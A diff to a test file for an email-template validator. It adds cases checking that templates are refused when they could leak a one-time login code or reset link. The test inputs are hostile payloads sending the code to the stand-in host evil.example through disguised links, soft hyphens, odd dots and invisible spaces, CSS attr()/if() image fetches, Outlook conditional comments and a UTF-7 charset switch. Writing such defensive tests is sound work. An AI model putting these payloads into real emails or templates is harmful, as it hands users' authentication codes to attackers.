@@ -63,6 +63,13 @@ test('lists are refused as text, sections of them in themselves', () => {
   expect(text('{{#accounts}}{{#accounts}}{{.}}{{/accounts}}{{/accounts}}')[0]).toContain('inside of itself');
 });
 
+test('a list is refused in another one: a mail would grow by their product (attack 38.775)', () => {
+  const nested = '{{#accounts}}{{#details}}{{.}}{{/details}}{{/accounts}}';
+  expect(problems('text', `{{reset_url}}${nested}`, 'password_reset_done')).toEqual([
+    'text: invalid_template: has the list details inside of another one.',
+  ]);
+});
+
 test.each(['{{code}}', '{{reset_url}}', 'Your code {{#administrator}}{{code}}{{/administrator}}'])(
   'the subject %j is refused: locked screens show it and relays log it (attack 38.775)',
   (subject) => expect(problems('subject', subject)[0]).toContain('subjects are shown on locked screens'),
@@ -151,11 +158,40 @@ test.each(['<p>https:&#47;&#47;evil.example&#x2f;?c=<b>{{code}}</b></p>', '<td>{
   (html) => expect(problems('html', `<p>{{code}}</p>${html}`)[0]).toContain('mail programs make a link of it'),
 );
 
+test.each([
+  ['a list whose entries are labels of a host', '{{code}}{{#details}}xyz.{{/details}}'],
+  ['the address of whoever asks for the mail', '{{ip_address}}?{{code}}'],
+  ['the line that ends with it', '{{origin}}?{{code}}'],
+  ['a label of symbols', '{{code}}.❤.example'],
+  ['a soft hyphen, which hosts are rid of', 'evil.\u00adexample?{{code}}'],
+  ['dots of other scripts', '{{code}}。evil。example'],
+  ['white space that is none to every program', 'https://evil.example/?c=\ufeff{{code}}'],
+  ['a no-break space', 'https://evil.example/?c=\u00a0{{code}}'],
+])('a text is refused of which some program makes a link that carries the code, by %s: %j (attack 38.851)', (_, text) => {
+  expect(problems('text', `Your code: {{code}}\n${text}\n`)[0]).toContain('mail programs make a link of it');
+  expect(problems('html', `<p>{{code}}</p><p>${text}</p>`)[0]).toContain('mail programs make a link of it');
+});
+
+test('what stands beside a code without a space is looked at once, however long it is and however many there are (attack 38.850)', () => {
+  const sections = ['device', 'ip_address', 'details', 'support_email'].map((name) => `{{#${name}}}x{{/${name}}}`).join('');
+  const codes = '{{code}} '.repeat(490);
+  const word = (length: number) => `${sections} ${'a'.repeat(length - codes.length - sections.length - 2)} ${codes}`;
+  const began = performance.now();
+  expect(problems('text', word(templateLimits.text), 'register_code')).toEqual([]);
+  expect(problems('html', word(templateLimits.html), 'register_code')).toEqual([]);
+  expect(performance.now() - began).toBeLessThan(5_000);
+});
+
 test('codes and links stand where languages put them', () => {
   for (const text of [
     '您的验证码是{{code}}，有效期{{expires_in}}。',
     'Code: "{{code}}".',
     '({{reset_url}})',
+    '验证码是{{code}}。请输入',
+    '...{{code}}...',
+    'Code\u00a0: {{code}}',
+    'For {{environment_name}}.\u00a0{{code}}',
+    '{{#details}}{{.}}\n{{/details}}{{code}}',
     '{{reset_url}}.',
     'At www.acme.example: {{code}}',
     '{{#administrator}}See https://acme.example/why\n{{/administrator}}\n{{code}}',
@@ -188,6 +224,54 @@ test.each([
   expect(first).toMatch(/^html: markup_not_allowed: line 1/);
   expect(first).toContain(detail);
 });
+
+test.each([
+  ['<style>p { --code: attr(title) }</style>', 'attr( in <style>'],
+  [
+    '<p title="{{code}}" style="--c: attr(title); background: image-set(if(style(--c: 104285): url(https://evil.example/1)))">x</p>',
+    'attr( in style',
+  ],
+  ['<p style="background: if(style(--c: 1): url(https://evil.example/1))">x</p>', 'if( in style'],
+  ['<p style="--c: \\61ttr(title)">x</p>', 'has a \\ in style'],
+  ['<style>p { animation-timeline: scroll(self) }</style>', 'animation-timeline in <style>'],
+])(
+  'styles that ask what the mail says, or how much room that takes, are refused wherever they stand: %s (attack 38.852)',
+  (html, detail) => {
+    const [first] = problems('html', `<p>{{code}}</p>${html}`);
+    expect(first).toMatch(/^html: markup_not_allowed: line 1/);
+    expect(first).toContain(detail);
+  },
+);
+
+test.each([
+  ['<!--[if mso]><a href="https://evil.example/?c=<![endif]-->{{code}}<!--[if mso]>">x</a><![endif]-->', 'eof-in-tag'],
+  ['<!--[if mso]><img src="https://evil.example/x.png<![endif]-->', 'eof-in-tag'],
+  ['<!--[if mso]><script>x</script><![endif]-->', '<script>'],
+  ['<!--[if mso]><style>.x {<![endif]-->', '<style> without its end'],
+  ['<!--[if mso]><p onclick="x">x</p><![endif]-->', 'onclick'],
+  ['<!--[if mso]><v:rect onclick="x"></v:rect><![endif]-->', 'onclick'],
+  ['<!-- x [if mso]><img src="https://evil.example/x.png<![endif]-->', 'can not be read'],
+  ['<p><!--[if mso]>https://evil.example/?c=<![endif]-->{{code}}</p>', 'make a link of it'],
+  ['<p>evil.example/<!--[if mso]> <![endif]-->{{code}}</p>', 'make a link of it'],
+  ['<v:rect>x</v:rect>', '<v:rect>'],
+])('what Outlook alone reads as markup follows the same rules, and ends where it began: %s (attack 38.853)', (html, detail) => {
+  expect(problems('html', `<p>{{code}}</p>${html}`)[0]).toContain(detail);
+});
+
+test('what mails have for Outlook is taken', () => {
+  for (const html of [
+    '<!--[if mso]><table><tr><td><![endif]--><p>x</p><!--[if mso]></td></tr></table><![endif]-->',
+    '<!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:PixelsPerInch>96</o:PixelsPerInch></o:OfficeDocumentSettings></xml><![endif]-->',
+    '<!--[if mso]><v:roundrect xmlns:v="urn:schemas-microsoft-com:vml" href="https://acme.example/" arcsize="10%"><w:anchorlock/><center>Help</center></v:roundrect><![endif]-->',
+    '<!--[if !mso]><!--><p>x</p><!--<![endif]-->',
+  ])
+    expect(problems('html', `<p>{{code}}</p>${html}`)).toEqual([]);
+});
+
+test.each(['<meta charset="utf-7">', '<meta http-equiv="Content-Type" content="text/html;\n charset=iso-2022-jp">'])(
+  'another encoding, in which the same bytes are other markup, is refused: %j (attack 38.776)',
+  (html) => expect(problems('html', `${html}<p>{{code}}</p>`)[0]).toContain('mails are in UTF-8'),
+);
 
 test('styles that mails have are taken', () => {
   const css = `@media (max-width: 600px) { .wide { width: 100% !important } } @media (prefers-color-scheme: dark) { body { background: #111 } }
